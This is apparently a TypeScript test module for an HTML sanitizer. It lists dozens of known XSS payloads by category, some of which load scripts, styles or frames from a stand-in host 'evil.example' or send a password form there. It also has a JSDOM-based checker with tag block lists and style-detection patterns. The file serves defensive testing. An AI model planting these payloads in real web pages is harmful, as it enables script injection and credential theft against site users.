import { JSDOM } from 'jsdom';

/** Kinds of attack known from the field, by what they try; each once, in its plainest form. */
export const attacks = {
  scripts: [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<script/src="https://evil.example/x.js"></script>',
    '<<SCRIPT>alert(1);//<</SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script>alert(1)',
    '<script\u0000>alert(1)</script>',
    '<script >alert(1)</script\t\n bar>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '</title><script>alert(1)</script>',
    '<!--><script>alert(1)</script>-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
    '<xss><script>alert(1)</script></xss>',
  ],
  handlers: [
    '<img src=x onerror=alert(1)>',
    '<IMG SRC=x ONERROR="alert(1)">',
    '<img src=x onerror\u0000=alert(1)>',
    '<img/src=x/onerror=alert(1)>',
    '<img src="x` `onerror=alert(1)">',
    '<img """><script>alert(1)</script>">',
    '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
    '<body onload=alert(1)>',
    '<p onmouseover=alert(1)>x</p>',
    '<a onclick=alert(1) href="#">x</a>',
    '<video src=x onerror=alert(1)></video>',
    '<video><source onerror=alert(1)></video>',
    '<audio src=x onerror=alert(1)>',
    '<details open ontoggle=alert(1)>x</details>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<input autofocus onfocus=alert(1)>',
    '<select autofocus onfocus=alert(1)></select>',
    '<div onpointerrawupdate=alert(1)>x</div>',
    '<p style="animation-name:x" onanimationstart=alert(1)>x</p>',
    '<table onscroll=alert(1) background="javascript:alert(1)"><tr><td>x</table>',
  ],
  schemes: [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="\u0001javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="blob:https://evil.example/1">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
    '<img srcset="javascript:alert(1) 1x">',
    '<video poster="javascript:alert(1)"></video>',
    '<video><source src="javascript:alert(1)"></video>',
  ],
  styles: [
    '<style>@import "https://evil.example/x.css";</style>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="background-image:url(https://evil.example/x)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="wid/**/th:exp/**/ression(alert(1))">x</p>',
    '<p style="-moz-binding:url(https://evil.example/x.xml#xss)">x</p>',
    '<p style="behavior:url(x.htc)">x</p>',
    '<p style="color:red;position:fixed;top:0;left:0;z-index:9999">x</p>',
    '<p style="\\62\\61ckground:url(x)">x</p>',
    '<p style="color:&#x75;rl(x)">x</p>',
  ],
  frames: [
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<object data="javascript:alert(1)"></object>',
    '<object type="text/html" data="https://evil.example"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<applet code="x.class"></applet>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<portal src="https://evil.example"></portal>',
  ],
  'foreign documents': [
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x></svg>',
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mi//xlink:href="javascript:alert(1)">x</mi></math>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<template><img src=x onerror=alert(1)></template>',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<plaintext><img src=x onerror=alert(1)>',
  ],
  forms: [
    '<form action="https://evil.example"><input name=password></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<isindex type=image src=x onerror=alert(1)>',
    '<keygen autofocus onfocus=alert(1)>',
    '<a href="#" id="__proto__" name="body">x</a><img name="cookie">',
  ],
} as const;

const BANNED =
  'script,style,link,meta,base,iframe,frame,frameset,object,embed,applet,portal,svg,math,form,input,button,select,textarea,template,noscript';
const ADDRESSES = new Set(['href', 'src', 'poster', 'srcset', 'background', 'action', 'formaction', 'data', 'xlink:href']);
const HARMLESS = new Set(['http:', 'https:', 'mailto:', 'tel:']);
const STYLE_TRICKS = /url\s*\(|expression|import|binding|behavior|position|z-index|\\|\/\*/i;

const isHarmless = (address: string) =>
  URL.canParse(address, 'https://shop.example') && HARMLESS.has(new URL(address, 'https://shop.example').protocol);

/** Remains that could still run, load or deceive, read as a browser reads them. */
export function dangersIn(html: string): string[] {
  const { document } = new JSDOM(`<body>${html}</body>`).window;
  const elements = [...document.body.querySelectorAll('*')];
  const attributes = elements.flatMap((element) => [...element.attributes]);
  return [
    ...[...document.querySelectorAll(BANNED)].map(({ outerHTML }) => outerHTML),
    ...attributes.filter(({ name }) => name.startsWith('on') || name === 'srcset' || name === 'id').map(({ name }) => name),
    ...attributes
      .filter(({ name, value }) => ADDRESSES.has(name) && !isHarmless(value))
      .map(({ name, value }) => `${name}=${value}`),
    ...attributes.filter(({ name, value }) => name === 'style' && STYLE_TRICKS.test(value)).map(({ value }) => value),
  ];
}
